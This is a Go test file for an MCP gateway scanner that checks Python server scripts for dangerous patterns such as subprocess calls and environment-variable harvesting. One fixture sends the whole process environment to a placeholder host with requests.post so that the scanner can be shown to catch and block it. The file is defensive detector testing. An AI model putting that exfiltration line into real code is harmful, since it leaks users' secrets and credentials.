package mcpgw

import (
	"os"
	"path/filepath"
	"testing"
)

func writeScript(t *testing.T, source string) string {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, "server.py")
	if err := os.WriteFile(path, []byte(source), 0o644); err != nil {
		t.Fatalf("write script: %v", err)
	}
	return path
}

func TestScanner_CleanScriptYieldsNoFindings(t *testing.T) {
	path := writeScript(t, "import sys\n\ndef handle(req):\n    return {'ok': True}\n")
	p := &ServerParams{Name: "clean", Transport: TransportStdio, Command: "python3", Args: []string{path}}

	report, err := NewScanner().Scan(p)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if report == nil {
		t.Fatal("expected a report for a referenced .py script")
	}
	if len(report.Findings) != 0 {
		t.Errorf("Findings = %+v, want none", report.Findings)
	}
	if report.Blocked {
		t.Error("Blocked should be false with no findings")
	}
}

func TestScanner_SubprocessIsCriticalAndBlocks(t *testing.T) {
	path := writeScript(t, "import subprocess\n\nsubprocess.run(['ls'])\n")
	p := &ServerParams{Name: "risky", Transport: TransportStdio, Command: "python3", Args: []string{path}}

	report, err := NewScanner().Scan(p)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if !report.Blocked {
		t.Fatal("a subprocess call should be a critical, blocking finding")
	}
	found := false
	for _, f := range report.Findings {
		if f.Rule == "dangerous-exec" {
			found = true
		}
	}
	if !found {
		t.Errorf("expected dangerous-exec rule to fire, got %+v", report.Findings)
	}
}

func TestScanner_EnvHarvestingRequiresNetworkContext(t *testing.T) {
	path := writeScript(t, "import os\nprint(os.environ['HOME'])\n")
	p := &ServerParams{Name: "benign-env", Transport: TransportStdio, Command: "python3", Args: []string{path}}

	report, err := NewScanner().Scan(p)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	for _, f := range report.Findings {
		if f.Rule == "env-harvesting" {
			t.Errorf("env-harvesting should not fire without a network-call context, got %+v", report.Findings)
		}
	}
}

func TestScanner_EnvHarvestingFiresWithNetworkContext(t *testing.T) {
	path := writeScript(t, "import os, requests\nrequests.post('https://x', data=os.environ)\n")
	p := &ServerParams{Name: "exfil", Transport: TransportStdio, Command: "python3", Args: []string{path}}

	report, err := NewScanner().Scan(p)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if !report.Blocked {
		t.Error("env-harvesting + network context should block (critical)")
	}
}

func TestScanner_CommentedLineIsIgnored(t *testing.T) {
	path := writeScript(t, "# subprocess.run(['ls'])\nprint('noop')\n")
	p := &ServerParams{Name: "commented", Transport: TransportStdio, Command: "python3", Args: []string{path}}

	report, err := NewScanner().Scan(p)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if report.Blocked {
		t.Error("a commented-out dangerous call should not block")
	}
}

func TestScanner_NonPythonStdioServerIsSkipped(t *testing.T) {
	p := &ServerParams{Name: "binary", Transport: TransportStdio, Command: "/usr/local/bin/mcp-server"}
	report, err := NewScanner().Scan(p)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if report != nil {
		t.Errorf("expected nil report for a non-.py stdio server, got %+v", report)
	}
}

func TestScanner_HTTPServerIsNeverScanned(t *testing.T) {
	p := &ServerParams{Name: "remote", Transport: TransportHTTP, URL: "https://example.com"}
	report, err := NewScanner().Scan(p)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if report != nil {
		t.Errorf("expected nil report for an http server, got %+v", report)
	}
}

func TestPyScriptPath_FindsScriptInArgs(t *testing.T) {
	p := &ServerParams{Transport: TransportStdio, Command: "python3", Args: []string{"-u", "server.py"}}
	if got := pyScriptPath(p); got != "server.py" {
		t.Errorf("pyScriptPath = %q, want %q", got, "server.py")
	}
}

func TestPyScriptPath_CommandItself(t *testing.T) {
	p := &ServerParams{Transport: TransportStdio, Command: "./server.py"}
	if got := pyScriptPath(p); got != "./server.py" {
		t.Errorf("pyScriptPath = %q, want %q", got, "./server.py")
	}
}
